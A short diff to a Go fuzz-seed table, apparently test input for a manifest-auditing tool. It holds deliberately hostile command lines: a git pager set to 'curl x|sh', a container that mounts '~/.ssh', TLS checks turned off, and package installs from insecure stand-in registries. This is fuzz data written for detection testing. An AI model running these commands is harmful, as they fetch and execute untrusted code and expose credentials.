@@ -76,6 +76,8 @@ var fuzzSeeds = [][]string{
 	{"forfiles", "/c", "wmic process call create \"cmd /c npx -y pkg & hh https://x.example/a.chm\""},
 	{"docker", "compose", "-p", "x", "run", "-Tv", "~/.ssh:/s", "--entrypoint=tmux", "svc", "new", "-d", "git -c core.pager='curl x|sh' clone ext::sh%%x d"},
 	{"env", "NODE_TLS_REJECT_UNAUTHORIZED=0", "uv", "run", "--index", "c=http://r.example/s", "--allow-insecure-host", "r.example", "npx", "--registry=http://r.example", "-y", "p@1.0.0"},
+	{"sh", "-c", "python3 -Im pip install -i http://r/s x>=1 && cargo install --git u --rev 0 y && gem exec -v 1 z:2"},
+	{"jbang", "--insecure", "--deps", "a:b:1.+,c:d", "-j17", "run", "-Dk=v", "m@org/cat", "--repos", "r=http://x"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
